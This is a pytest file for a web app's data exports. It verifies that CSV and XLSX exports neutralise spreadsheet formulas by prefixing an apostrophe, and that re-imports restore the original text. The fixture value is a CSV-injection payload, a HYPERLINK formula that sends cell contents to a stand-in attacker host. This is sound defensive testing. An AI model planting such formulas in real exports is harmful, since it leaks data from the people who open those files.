"""Text that spreadsheets would run as a formula is exported inert and imported back intact."""

import csv
import io

import pytest
from openpyxl import load_workbook

from alliances.base.importing.importer import validate
from alliances.base.importing.readers import read_csv, read_xlsx
from alliances.base.models import Alliance
from alliances.common.spreadsheet import as_text_cell, from_text_cell

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


@pytest.mark.parametrize(
    "value", [FORMULA, "+33 1 23", "-2+3", "@SUM(A1)", "\t=1", "'=déjà", "Texte", "", "'ok"]
)
def test_the_apostrophe_round_trips(value):
    assert from_text_cell(str(as_text_cell(value))) == value


def test_only_formula_like_text_changes():
    assert as_text_cell(FORMULA) == "'" + FORMULA
    assert as_text_cell("Jardins partagés") == "Jardins partagés"
    assert as_text_cell(-3) == -3  # numbers stay numbers
    assert from_text_cell("'apostrophe d'usage") == "'apostrophe d'usage"


@pytest.fixture
def formula_alliance(db):
    return Alliance.objects.create(
        kind="alliance",
        title=FORMULA,
        slug="formule",
        summary="-1+1 résumé",
        status="published",
        start_year=2022,
    )


def _search_export(client, fmt: str) -> bytes:
    response = client.get(f"/alliances/?q=cliquez&format={fmt}")
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_exports_are_inert_in_spreadsheets_and_import_back_unchanged(client, formula_alliance):
    data = _search_export(client, "csv")
    (row,) = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert row["title"] == "'" + FORMULA and row["summary"] == "'-1+1 résumé"

    xlsx = _search_export(client, "xlsx")
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    header = [c.value for c in sheet[1]]
    title_cell = sheet.cell(row=2, column=header.index("title") + 1)
    assert title_cell.data_type == "s" and title_cell.value == "'" + FORMULA

    # Edited in a spreadsheet and imported back: the apostrophe is gone again.
    formula_alliance.delete()
    for table in (read_csv(data), read_xlsx(xlsx)):
        report = validate(table)
        assert [r.title for r in report.valid] == [FORMULA]
        assert report.valid[0].summary == "-1+1 résumé"


def test_registry_and_list_twins_are_inert_too(client, formula_alliance):
    registry = client.get("/donnees/registre/odd.csv?q=cliquez").content.decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(registry)))
    assert row["title"] == "'" + FORMULA
